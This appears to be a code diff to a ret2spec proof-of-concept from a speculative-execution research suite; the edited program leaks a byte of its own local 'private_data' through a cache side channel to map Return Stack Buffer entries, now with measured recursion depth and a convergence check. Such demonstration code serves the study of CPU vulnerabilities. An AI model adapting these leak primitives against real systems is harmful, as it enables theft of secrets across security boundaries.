@@ -13,6 +13,7 @@
 #include <vector>
 
 #include "cache_sidechannel.h"
+#include "experiment.h"
 #include "instr.h"
 #include "local_content.h"
 #include "ret2spec_common.h"
@@ -23,16 +24,18 @@ static void NopFunction() {}
 
 // Starts the recursive execution of ReturnsFalse.
 static void ReturnsFalseRecursion() {
-  ReturnsFalse(kRecursionDepth);
+  ReturnsFalse(recursion_depth);
 }
 
 int main() {
   return_true_base_case = NopFunction;
   return_false_base_case = ReturnsFalseRecursion;
+  UseMeasuredRecursionDepth();
   
   std::cout << "Testing which RSB entry is used for misprediction...\n";
   std::cout << "RSB mapping: ";
-  for (size_t i = 0; i < kRecursionDepth && i < strlen(private_data); ++i) {
+  for (size_t i = 0; i < static_cast<size_t>(recursion_depth) &&
+                     i < strlen(private_data); ++i) {
     std::cout << "Entry" << i << "=" << private_data[i] << " ";
     if ((i + 1) % 10 == 0) std::cout << "\n             ";
   }
@@ -42,16 +45,24 @@ int main() {
   std::cout.flush();
   
   current_offset = 0; // Not used in this version
-  char leaked_char = Ret2specLeakByte();
+  CacheSideChannel sidechannel;
+  ExperimentOutcome outcome =
+      Ret2specLeakByte(sidechannel, ExperimentBudget());
+  if (!outcome.converged) {
+    std::cerr << "Does not converge " << outcome.value << std::endl;
+    return EXIT_FAILURE;
+  }
+  char leaked_char = outcome.value;
   
   std::cout << "Leaked character: '" << leaked_char << "'\n";
   
   // Determine which RSB entry was used
   bool found = false;
-  for (size_t i = 0; i < kRecursionDepth && i < strlen(private_data); ++i) {
+  for (size_t i = 0; i < static_cast<size_t>(recursion_depth) &&
+                     i < strlen(private_data); ++i) {
     if (private_data[i] == leaked_char) {
       std::cout << "*** RSB entry " << i << " was used for the misprediction! ***\n";
-      std::cout << "This corresponds to ReturnsFalse recursion level " << (kRecursionDepth - i) << "\n";
+      std::cout << "This corresponds to ReturnsFalse recursion level " << (recursion_depth - i) << "\n";
       found = true;
       break;
     }